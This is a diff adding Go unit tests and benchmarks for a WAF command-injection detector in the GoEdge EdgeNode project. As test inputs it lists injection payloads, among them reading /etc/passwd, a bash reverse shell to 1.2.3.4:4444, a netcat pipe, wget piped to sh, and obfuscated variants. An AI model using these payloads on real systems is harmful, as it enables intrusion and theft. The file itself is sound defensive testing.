@@ -0,0 +1,97 @@
+// Copyright 2024 GoEdge CDN goedge.cdn@gmail.com. All rights reserved. Official site: https://goedge.cn .
+
+package injectionutils_test
+
+import (
+	"github.com/TeaOSLab/EdgeNode/internal/waf/injectionutils"
+	"github.com/TeaOSLab/EdgeNode/internal/waf/utils"
+	"github.com/iwind/TeaGo/assert"
+	"runtime"
+	"testing"
+)
+
+func TestDetectCommandInjection(t *testing.T) {
+	var a = assert.NewAssertion(t)
+	for _, isStrict := range []bool{true, false} {
+		a.IsFalse(injectionutils.DetectCommandInjection("", isStrict))
+		a.IsFalse(injectionutils.DetectCommandInjection("hello world", isStrict))
+		a.IsFalse(injectionutils.DetectCommandInjection("a=1&id=2&b=3", isStrict))
+		a.IsFalse(injectionutils.DetectCommandInjection("Tom & Jerry", isStrict))
+		a.IsFalse(injectionutils.DetectCommandInjection("text/html; charset=utf-8", isStrict))
+		a.IsFalse(injectionutils.DetectCommandInjection("price: $100", isStrict))
+		a.IsTrue(injectionutils.DetectCommandInjection("127.0.0.1; cat /etc/passwd", isStrict))
+		a.IsTrue(injectionutils.DetectCommandInjection("127.0.0.1;id", isStrict))
+		a.IsTrue(injectionutils.DetectCommandInjection("127.0.0.1 && whoami", isStrict))
+		a.IsTrue(injectionutils.DetectCommandInjection("127.0.0.1 || uname -a", isStrict))
+		a.IsTrue(injectionutils.DetectCommandInjection("a | nc 1.2.3.4 4444", isStrict))
+		a.IsTrue(injectionutils.DetectCommandInjection("`id`", isStrict))
+		a.IsTrue(injectionutils.DetectCommandInjection("$(wget http://example.com/a.sh)", isStrict))
+		a.IsTrue(injectionutils.DetectCommandInjection("a;/bin/sh -i", isStrict))
+		a.IsTrue(injectionutils.DetectCommandInjection("a;c'a't /etc/passwd", isStrict))
+		a.IsTrue(injectionutils.DetectCommandInjection("a;w\\hoami", isStrict))
+		a.IsTrue(injectionutils.DetectCommandInjection("a%3Bcat%20%2Fetc%2Fpasswd", isStrict))
+		a.IsTrue(injectionutils.DetectCommandInjection("a%253Bwhoami", isStrict))
+		a.IsTrue(injectionutils.DetectCommandInjection("a\nping -c 3 127.0.0.1", isStrict))
+		a.IsTrue(injectionutils.DetectCommandInjection("a & powershell.exe -enc AAAA", isStrict))
+	}
+}
+
+func TestDetectCommandInjection_Strict(t *testing.T) {
+	var a = assert.NewAssertion(t)
+	a.IsFalse(injectionutils.DetectCommandInjection("cat /etc/passwd", false))
+	a.IsTrue(injectionutils.DetectCommandInjection("cat /etc/passwd", true))
+	a.IsFalse(injectionutils.DetectCommandInjection("this; more to come", false))
+	a.IsTrue(injectionutils.DetectCommandInjection("this; more to come", true))
+	a.IsFalse(injectionutils.DetectCommandInjection("cat${IFS}/etc/passwd", false))
+	a.IsTrue(injectionutils.DetectCommandInjection("cat${IFS}/etc/passwd", true))
+	a.IsFalse(injectionutils.DetectCommandInjection("a;/usr/local/bin/app", false))
+	a.IsTrue(injectionutils.DetectCommandInjection("a;/usr/local/bin/app", true))
+	a.IsFalse(injectionutils.DetectCommandInjection("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", false))
+	a.IsTrue(injectionutils.DetectCommandInjection("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", true))
+}
+
+func TestDetectCommandInjection_NewLine(t *testing.T) {
+	var a = assert.NewAssertion(t)
+
+	// 多行的普通文本
+	a.IsFalse(injectionutils.DetectCommandInjection("Hi,\nping me when you are free.\nThanks", false))
+	a.IsFalse(injectionutils.DetectCommandInjection("Line 1\r\nid card number is required", false))
+	a.IsFalse(injectionutils.DetectCommandInjection("Todo:\nwget the new logo\nls is a command", false))
+	a.IsTrue(injectionutils.DetectCommandInjection("Hi,\nping me when you are free.", true))
+
+	// 带有Shell上下文
+	a.IsTrue(injectionutils.DetectCommandInjection("a\nid > /tmp/x", false))
+	a.IsTrue(injectionutils.DetectCommandInjection("a\nwget http://1.2.3.4/a.sh|sh", false))
+	a.IsTrue(injectionutils.DetectCommandInjection("a\r\ncat /etc/passwd", false))
+	a.IsTrue(injectionutils.DetectCommandInjection("a%0Auname -a", false))
+}
+
+func BenchmarkDetectCommandInjection(b *testing.B) {
+	runtime.GOMAXPROCS(4)
+
+	b.RunParallel(func(pb *testing.PB) {
+		for pb.Next() {
+			_ = injectionutils.DetectCommandInjection("127.0.0.1; cat /etc/passwd", false)
+		}
+	})
+}
+
+func BenchmarkDetectCommandInjection_Normal(b *testing.B) {
+	runtime.GOMAXPROCS(4)
+
+	b.RunParallel(func(pb *testing.PB) {
+		for pb.Next() {
+			_ = injectionutils.DetectCommandInjection("/search?q=hello+world&page=2&id=123", false)
+		}
+	})
+}
+
+func BenchmarkDetectCommandInjection_Cache(b *testing.B) {
+	runtime.GOMAXPROCS(4)
+
+	b.RunParallel(func(pb *testing.PB) {
+		for pb.Next() {
+			_ = injectionutils.DetectCommandInjectionCache("/search?q=hello+world&page=2&id=123", false, utils.CacheMiddleLife)
+		}
+	})
+}